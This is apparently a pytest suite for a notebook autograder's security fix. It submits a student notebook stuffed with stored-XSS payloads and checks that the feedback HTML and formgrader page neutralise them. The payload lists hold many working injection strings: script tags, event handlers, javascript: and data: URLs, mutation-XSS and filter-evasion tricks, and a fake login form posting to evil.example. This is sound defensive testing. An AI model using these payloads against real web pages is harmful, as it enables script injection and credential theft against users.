"""Stored XSS (security review, finding 6): nothing active from a student's notebook reaches the
feedback HTML or the formgrader's page, and legitimate markdown still renders.

One student submits a ``softmax_regression`` notebook with honest answers plus markdown, raw and
code cells that carry a battery of payloads; it is graded through the CLI with ``--feedback``.
Every payload that runs sets ``data-pwned-<n>`` on the top document (the word is split in the
source, so only a payload that ran writes it).  The autograded notebook, the feedback HTML and the
formgrader's rendering of the autograded notebook are checked as text and in headless Chromium.
"""

import base64
import copy
import json
import re
import subprocess
import sys

import pytest
from bs4 import BeautifulSoup

import browser
from autograder import nbgrader_driver
from autograder.course import build_course, reference_answer_cells
from autograder.feedback_safety import SanitizeStudentContent, safe_markdown
from autograder.notebook import cell_source, d2l_meta, read_notebook

ASSIGNMENT = "softmax_regression"
STUDENT = "mallory"
HONEST = "HONEST-D2L-ANSWER"
TOKEN = "pwn"  # in every payload's script, never in the template's


def js(n: int) -> str:
    """Script that marks the top document when it runs (no double quotes, no spaces)."""
    return f"top.document.documentElement.setAttribute('data-{TOKEN}'+'ed-{n}','')"


def b64(text: str) -> str:
    """``text`` in base64."""
    return base64.b64encode(text.encode()).decode()


PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAAB"
       "JRU5ErkJggg==")  # 1x1 pixel

MARKDOWN_PAYLOADS = [
    f"{HONEST} before <script>{js(1)}</script> and after",
    f'<img src=x onerror="{js(2)}">',
    f'Inline <IMG SRC=x OnErRoR="{js(3)}"> in a sentence.',
    f'<svg onload="{js(4)}"><circle r="4"/></svg>',
    f'<iframe srcdoc="&lt;script&gt;{js(5)}&lt;/script&gt;"></iframe>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{js(6)}">',
    f'<math><a xlink:href="javascript:{js(7)}">math link</a></math>',
    f"<style>#notebook-container{{display:none}} .{TOKEN}{{}}</style>",
    '<base href="https://evil.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{js(8)}">',
    '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    f"<scr<script>ipt>{js(9)}</scr</script>ipt>",
    f'<a href="jav&#x09;ascript:{js(10)}">tab-obfuscated link</a>',
    f'<a href="JaVaScRiPt:{js(11)}">mixed-case link</a>',
    f"[markdown link](javascript:{js(12)})",
    f"[data link](data:text/html;base64,{b64('<script>' + js(13) + '</script>')})",
    f"<javascript:{js(14)}>",
    f"[reference link][evil]\n\n[evil]: javascript:{js(15)}",
    f"![image](javascript:{js(16)})",
    f'<details open ontoggle="{js(17)}"><summary>s</summary>d</details>',
    f'<body onload="{js(18)}">',
    f'<video><source onerror="{js(19)}"></video>',
    f'<object data="data:text/html,&lt;script&gt;{js(20)}&lt;/script&gt;"></object>',
    f'<embed src="data:text/html;base64,{b64("<script>" + js(21) + "</script>")}">',
    f'<input autofocus onfocus="{js(22)}">',
    f'<noscript><p title="</noscript><img src=x onerror={js(23)}>"></noscript>',
    f'<!-- --><script>{js(24)}</script>',
    f'# Heading <img src=x onerror="{js(25)}">\n\n'
    f'| a | <img src=x onerror="{js(26)}"> |\n|---|---|\n| 1 | 2 |',
    f'<a href="#" onclick="{js(27)}">click me</a> <div style="position:fixed">fake score</div>',
    "# check_softmax\n\n## statusmessage\n\n<h3 id=check_sgd-comment>taken id</h3>",
]

LEGIT_MARKDOWN = (
    f"## My notes\n\n{HONEST}: *emphasis*, **strong** and `code < 1`.\n\n"
    "* one\n* two\n\n| left | right |\n|:-----|------:|\n| 1 | 2 |\n\n"
    "![figure](https://example.com/figure.png) ![pasted](attachment:pasted.png)\n\n"
    "$x^2 < 1$ and $$\\sum_i a_i$$\n"
)

RAW_PAYLOADS = [
    ({"raw_mimetype": "text/html"}, f'<script>{js(30)}</script><img src=x onerror="{js(31)}">'),
    ({"format": "text/html"}, f'<svg onload="{js(32)}"></svg>'),
    ({}, f'<iframe srcdoc="&lt;script&gt;{js(33)}&lt;/script&gt;"></iframe>'),
]


def hostile_notebook(release_nb: dict, reference: dict) -> dict:
    """The release notebook with honest answers (``accuracy`` raises with a payload in its
    message) and the payload cells added after the first cell."""
    message = f'<img src=x onerror="{js(40)}">'
    answers = dict(reference,
                   accuracy=f"def accuracy(y_hat, y):\n    raise ValueError({message!r})\n")
    nb = copy.deepcopy(release_nb)
    for cell in nb["cells"]:
        if d2l_meta(cell).get("role") == "exercise":
            cell["source"] = answers[d2l_meta(cell)["function"]]
    added = [{"cell_type": "markdown", "id": "legit", "metadata": {}, "source": LEGIT_MARKDOWN,
              "attachments": {"pasted.png": {"image/png": PNG}}}]
    added += [{"cell_type": "markdown", "id": f"xss-md-{i}", "metadata": {}, "source": s}
              for i, s in enumerate(MARKDOWN_PAYLOADS)]
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(34)}"/>'
    added.append({"cell_type": "markdown", "id": "xss-attachments", "metadata": {},
                  "source": "![svg](attachment:evil.svg) [page](attachment:page.html)",
                  "attachments": {"evil.svg": {"image/svg+xml": b64(svg)},
                                  "page.html": {"text/html": b64(f"<script>{js(35)}</script>")}}})
    added += [{"cell_type": "raw", "id": f"xss-raw-{i}", "metadata": meta, "source": s}
              for i, (meta, s) in enumerate(RAW_PAYLOADS)]
    added.append({"cell_type": "code", "id": "xss-outputs", "metadata": {}, "execution_count": 1,
                  "source": "1 + 1", "outputs": [{
                      "output_type": "display_data", "metadata": {},
                      "data": {"text/html": f"<script>{js(36)}</script>",
                               "application/javascript": js(37), "text/plain": "2"}}, {
                      # nbconvert writes an output's width unquoted: width=1 onerror=...
                      "output_type": "display_data", "metadata": {"width": f"1 onerror={js(41)}"},
                      "data": {"image/png": "AAAA", "text/plain": "<Figure>"}}]})
    nb["cells"][1:1] = added
    nb["metadata"]["title"] = f"</title><script>{js(38)}</script>"
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0,
        "x": f"</script><script>{js(39)}</script>"}}
    return nb


@pytest.fixture(scope="module")
def graded(kit, tmp_path_factory):
    """(course, results, submitted notebook) after ``d2l-grade grade --json --feedback``."""
    course = build_course(tmp_path_factory.mktemp("xss") / "course", kit, assignments=[ASSIGNMENT])
    release = nbgrader_driver.generate_assignment(course, ASSIGNMENT)
    nb = hostile_notebook(read_notebook(release), reference_answer_cells(kit, ASSIGNMENT))
    folder = course.submitted(STUDENT, ASSIGNMENT)
    folder.mkdir(parents=True)
    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(nb, indent=1))
    proc = subprocess.run([sys.executable, "-m", "autograder.cli", "grade", str(course.root),
                           ASSIGNMENT, "--json", "--feedback"],
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr
    assert "placeholder" not in proc.stderr and "no feedback" not in proc.stderr, proc.stderr
    return course, json.loads(proc.stdout)[STUDENT], nb


def autograded_path(course):
    """The student's autograded notebook."""
    return course.root / "autograded" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"


def feedback_path(course):
    """The student's feedback HTML."""
    return course.feedback(STUDENT, ASSIGNMENT) / f"{ASSIGNMENT}.html"


def formgrade(notebook, config=None) -> str:
    """``notebook`` as nbgrader 0.9.6's formgrader renders a submission (its SubmissionHandler:
    an HTMLExporter with the ``formgrade`` template), with ``config`` (default: none)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config
    config = copy.deepcopy(config) if config is not None else Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": ASSIGNMENT, "notebook_id": ASSIGNMENT, "submission_id": "1",
                 "index": 0, "total": 1, "base_url": "", "student": STUDENT, "last_name": None,
                 "first_name": None, "notebook_path": "autograded/x.ipynb"}
    return HTMLExporter(config=config).from_filename(str(notebook), resources=resources)[0]


@pytest.fixture(scope="module")
def formgrader_html(graded, tmp_path_factory):
    """The formgrader's page of the autograded notebook, rendered without the course's config:
    the notebook must be safe by itself."""
    course, _results, _nb = graded
    path = tmp_path_factory.mktemp("formgrade") / "submission.html"
    path.write_text(formgrade(autograded_path(course)))
    return path


# --- the results ---------------------------------------------------------------------------------

def test_honest_answers_get_full_marks(graded):
    """The payload cells change nothing in the grade; only ``accuracy`` (which raises) fails."""
    _course, results, _nb = graded
    for exercise, entry in results.items():
        if exercise != "accuracy":
            assert entry["score"] == entry["max_score"] > 0, (exercise, entry)
    assert results["accuracy"]["score"] == 0


# --- as text -------------------------------------------------------------------------------------

URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "background",
                  "poster", "srcdoc")
FORBIDDEN_TAGS = ("iframe", "object", "embed", "base", "form", "svg", "math", "frame",
                  "frameset", "applet", "video", "audio", "source", "noscript")


def active_parts(html: str) -> list[str]:
    """What in ``html`` could run a student's script or change the page: scripts and style
    sheets holding the payload marker, ``on*`` attributes, unsafe URLs, frames, forms, ``<base>``,
    ``<meta http-equiv>``, SVG and MathML."""
    soup = BeautifulSoup(html, "html.parser")
    found = []
    for tag in soup.find_all(True):
        if tag.name in ("script", "style") and TOKEN in tag.get_text():
            found.append(str(tag)[:120])
        if tag.name in FORBIDDEN_TAGS or (tag.name == "meta" and tag.get("http-equiv")):
            found.append(str(tag)[:120])
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on") and TOKEN in value:
                found.append(f"<{tag.name} {name}={value[:80]!r}>")
            url = re.sub(r"[\x00-\x20\x7f-\xa0]+", "", value).lower()
            if name.lower() in URL_ATTRIBUTES and (
                    url.startswith(("javascript:", "vbscript:", "data:text", "data:image/svg"))
                    or (url.startswith("data:") and tag.name != "img") or TOKEN in url):
                found.append(f"<{tag.name} {name}={value[:80]!r}>")
            if name.lower() == "style" and "position" in value:
                found.append(f"<{tag.name} style={value!r}>")
    return found


def test_feedback_html_holds_nothing_active(graded):
    """No payload survives in the feedback HTML; the failure message is there, as text."""
    course, _results, _nb = graded
    html = feedback_path(course).read_text()
    assert active_parts(html) == []
    assert HONEST in html
    assert "ValueError: &lt;img src=x onerror=" in html  # the failure message, as text
    assert "data-pwned" not in html


def test_autograded_notebook_holds_nothing_active(graded, formgrader_html):
    """The autograded notebook keeps no unsafe metadata, outputs or attachments, and the
    formgrader's page of it holds no payload."""
    course, _results, _nb = graded
    nb = read_notebook(autograded_path(course))
    assert set(nb["metadata"]) <= {"kernelspec", "language_info", "nbgrader", "d2l"}
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            for output in cell.get("outputs", []):
                assert set(output.get("data", {})) <= {"text/plain"}, output
        for bundle in cell.get("attachments", {}).values():
            assert set(bundle) <= {"image/png", "image/jpeg", "image/gif", "image/webp"}
    assert active_parts(formgrader_html.read_text()) == []


def test_the_course_config_makes_the_formgrader_sanitize_too(graded, tmp_path):
    """A notebook autograded before the kit sanitized (here: the submitted one, outputs and
    all) is rendered safely by a formgrader that reads the course's ``nbgrader_config.py``."""
    course, _results, _nb = graded
    submitted = course.submitted(STUDENT, ASSIGNMENT) / f"{ASSIGNMENT}.ipynb"
    assert active_parts(formgrade(submitted)) != []
    html = formgrade(submitted, nbgrader_driver.load_config(course))
    assert active_parts(html) == [] and HONEST in html
    (tmp_path / "page.html").write_text(html)
    assert ran(browser.dump_dom(tmp_path / "page.html")) == []


def test_every_payload_cell_reached_the_autograded_notebook(graded):
    """The checks above saw the payloads (nbgrader did not drop the cells or use a placeholder)."""
    course, _results, submitted = graded
    ids = {c.get("id") for c in read_notebook(autograded_path(course))["cells"]}
    assert {c["id"] for c in submitted["cells"] if c["id"].startswith(("xss", "legit"))} <= ids


def test_legitimate_markdown_is_kept_as_written_and_renders(graded, formgrader_html):
    """Safe markdown, the student's and the assignment's, is not rewritten and renders fully."""
    course, _results, submitted = graded
    mine = {c["id"]: c for c in read_notebook(autograded_path(course))["cells"]}
    assert cell_source(mine["legit"]) == LEGIT_MARKDOWN
    for cell in submitted["cells"]:   # the assignment's own text is untouched
        if cell["cell_type"] == "markdown" and cell["id"].startswith("text-"):
            assert cell_source(mine[cell["id"]]) == cell_source(cell)
    for html in (feedback_path(course).read_text(), formgrader_html.read_text()):
        for part in ('<h2 id="My-notes">', "<em>emphasis</em>", "<strong>strong</strong>",
                     "<code>code &lt; 1</code>", "<li>one</li>", '<th style="text-align:left">',
                     'src="https://example.com/figure.png"', 'src="data:image/png;base64,',
                     "$x^2 &lt; 1$", "$$\\sum_i a_i$$"):
            assert part in html, part


def test_student_headings_do_not_take_the_formgraders_ids(formgrader_html):
    """The formgrader's scripts find each score field by id (the grade id): a student's heading
    of the same name, earlier in the page, would take its place."""
    soup = BeautifulSoup(formgrader_html.read_text(), "html.parser")
    assert [t.name for t in soup.find_all(id="check_softmax")] == ["input"]
    assert [t.name for t in soup.find_all(id="statusmessage")] == ["div"]  # the page's own
    assert soup.find_all(id="check_sgd-comment") == []


# --- in a browser --------------------------------------------------------------------------------

def ran(dom: str) -> list[str]:
    """The numbers of the payloads that ran, from the marker they leave."""
    return re.findall(r"data-pwned-(\d+)", dom)


def test_the_payloads_run_in_a_page_that_is_not_sanitized(graded, tmp_path):
    """The control: stock nbconvert on the submitted notebook lets payloads run, so the browser
    checks below would see them."""
    from nbconvert.exporters import HTMLExporter
    import nbformat
    _course, _results, submitted = graded
    nb = nbformat.reads(json.dumps(submitted), as_version=4)
    html, _ = HTMLExporter().from_notebook_node(nb)
    (tmp_path / "stock.html").write_text(html)
    assert ran(browser.dump_dom(tmp_path / "stock.html"))


def test_no_payload_runs_in_the_feedback_page(graded):
    """In Chromium, with scripts on, the feedback page runs no payload."""
    course, _results, _nb = graded
    dom = browser.dump_dom(feedback_path(course))
    assert ran(dom) == [] and "data-pwned" not in dom
    assert HONEST in dom and "Score:" in dom  # the page is still there, not navigated away


def test_no_payload_runs_in_the_formgrader_page(formgrader_html):
    """In Chromium, with scripts on, the formgrader's page runs no payload."""
    dom = browser.dump_dom(formgrader_html)
    assert ran(dom) == [] and "data-pwned" not in dom
    assert HONEST in dom


# --- the preprocessor on its own -----------------------------------------------------------------

def test_sanitizing_twice_changes_nothing(graded):
    """The feedback and formgrader passes leave an autograded notebook as it is."""
    course, _results, _nb = graded
    import nbformat
    nb = nbformat.read(str(autograded_path(course)), as_version=4)
    before = nbformat.writes(nb)
    SanitizeStudentContent().preprocess(nb, {})
    assert nbformat.writes(nb) == before


@pytest.mark.parametrize("source", [
    "plain *text* with `a < b`, > quotes\n\n> a quote\n\n1. one\n2. two",
    "- [x] done\n- [ ] not yet\n\n---\n\nline  \nbreak ~~old~~ <sub>2</sub> <b>b</b> <br>",
    "[a link](https://d2l.ai) [mail](mailto:a@b.c) [anchor](#top) <https://d2l.ai>",
    "```python\nif x < 1 and y > 2:\n    pass\n```\n\n    indented code <b>",
])
def test_common_markdown_is_left_as_written(source):
    """Everyday markdown (quotes, task lists, rules, breaks, links, code) is not rewritten."""
    assert safe_markdown(source) == source
